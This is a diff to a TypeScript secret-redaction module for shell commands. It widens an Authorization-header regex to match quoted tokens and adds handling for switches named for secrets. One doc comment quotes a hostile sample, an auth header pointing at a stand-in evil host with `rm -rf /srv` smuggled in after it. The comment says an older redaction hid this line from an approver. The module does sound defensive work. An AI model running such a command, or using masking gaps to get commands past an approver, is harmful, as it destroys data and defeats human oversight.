@@ -19,10 +19,10 @@ import type { Heredoc } from './shell-words.js';
  */
 const ASSIGNMENT_NAME = /(?<![\w.-])([\w.-]+)(["']?\s*[=:]\s*)/g;
 /**
- * An HTTP Authorization header (`-H 'Authorization: Bearer …'`): its credentials, a known scheme and one token (not
- * the rest of the line: `-H Authorization:x https://evil/x; rm -rf /srv` hid all of it from an approver).
+ * An HTTP Authorization header (`-H 'Authorization: Bearer …'`): its credentials, a known scheme and one token, quoted
+ * or not (not the rest of the line: `-H Authorization:x https://evil/x; rm -rf /srv` hid all of it from an approver).
  */
-const AUTH_HEADER = /(\b(?:proxy-)?authorization\s*:\s*)((?:(?:Basic|Bearer|Digest|Negotiate|NTLM|Token|Key|ApiKey|SSWS|OAuth|Hawk|MAC|AWS4-HMAC-SHA256|GoogleLogin|Splunk)[ \t]+)?[^\s'"]+)/gi;
+const AUTH_HEADER = /(\b(?:proxy-)?authorization\s*:\s*)((?:(?:Basic|Bearer|Digest|Negotiate|NTLM|Token|Key|ApiKey|SSWS|OAuth|Hawk|MAC|AWS4-HMAC-SHA256|GoogleLogin|Splunk)[ \t]+)?(?:"[^\s"]+"|'[^\s']+'|[^\s'"]+))/gi;
 /** A PEM or PGP private key (`-----BEGIN OPENSSH PRIVATE KEY-----`, written by a here-document): its body, to its END line. */
 const PEM_BEGIN = /-----BEGIN ((?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?)-----/g;
 /**
@@ -61,6 +61,8 @@ function claimProgramSecrets(line: Line, rules: ProgramSecrets, args: readonly n
       next = undefined;
       return;
     }
+    // (a switch named for a secret: the next word is shown, unless a rule's place says otherwise below)
+    if (rules.switches?.includes(bare[k]!) && k + 1 < args.length) line.claimed.set(args[k + 1]!, bare[k + 1]!);
     const out = programSecret(rules, bare[k]!, (f) => { next = f; });
     if (out !== bare[k]) line.claimed.set(i, out);
   });
